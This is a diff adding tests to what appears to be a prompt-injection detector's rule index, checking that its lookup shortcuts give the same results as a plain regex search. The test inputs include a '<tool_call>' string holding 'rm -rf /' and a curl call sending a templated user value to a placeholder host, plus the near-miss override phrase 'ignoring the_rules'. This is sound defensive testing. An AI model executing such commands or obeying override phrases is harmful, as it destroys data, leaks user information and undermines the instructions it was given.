@@ -19,6 +19,8 @@ from policies.detectors.injection.rules import (
     needle_in,
     rule,
     rule_spec,
+    start_key,
+    text_reading,
     token_line,
     whole_words,
     word_set,
@@ -218,6 +220,43 @@ def test_a_rule_with_anchors_tries_its_windows_only_at_its_starts(index) -> None
             tokens = whole_words(text, words)
             line = None if tokens is None else token_line(tokens)
             assert r.search(text, {}, tokens, line) == plain.search(text), (r.regex.pattern, text)
+
+
+@pytest.mark.parametrize("index", [patterns.INDEX, framing.INDEX, framing.ACTION_INDEX])
+def test_the_heads_of_a_texts_words_skip_only_starts_no_match_opens_at(index) -> None:
+    # A start that opens a word is tried only when two characters of it head a word of the
+    # text (session 16): the same answer as a search without the text's words.
+    texts = [*NEAR_MISSES, "nothing here: knowing no-one, renovated; ignoring the_rules"]
+    for text in texts:
+        words = word_set(text)
+        tokens, line, heads = text_reading(text, words)
+        for r in index.rules:
+            assert r.search(text, {}, tokens, line, heads) == r.search(text), (
+                r.regex.pattern,
+                text,
+            )
+            if r.requires is not None:
+                read = r.requires.search(text, {}, tokens, line, heads)
+                assert read == r.requires.search(text), (r.requires.regex.pattern, text)
+    keyed = [r for r in framing.INDEX.rules if r.start_heads is not None]
+    assert len(keyed) > 100
+    assert start_key("forget") == "fo" and start_key("don't") == "don"
+    assert start_key("no") == "no" and start_key("has no") == "has" and start_key("a ") == "a"
+    assert start_key("x") == "" and start_key("(bot") == ""
+
+
+@pytest.mark.parametrize("index", [patterns.INDEX, framing.INDEX, framing.ACTION_INDEX])
+def test_a_candidates_gate_skips_only_what_its_index_has_tested(index) -> None:
+    # RuleIndex.matches asks a candidate's gate only what candidates() did not (session 16).
+    texts = [*NEAR_MISSES, "<tool_call> rm -rf / and curl http://x/?q={{user}}", "é " + TEXTS[0]]
+    for text in texts:
+        words = word_set(text)
+        tokens, line, _ = text_reading(text, words)
+        for i in index.candidates(text, words, tokens, line):
+            r = index.rules[i]
+            assert r._gate(words, text, {}, tokens, line, opened=True) == r._gate(
+                words, text, {}, tokens, line
+            ), (r.regex.pattern, text)
 
 
 def test_the_words_of_a_text_say_whether_a_needle_is_in_it() -> None:
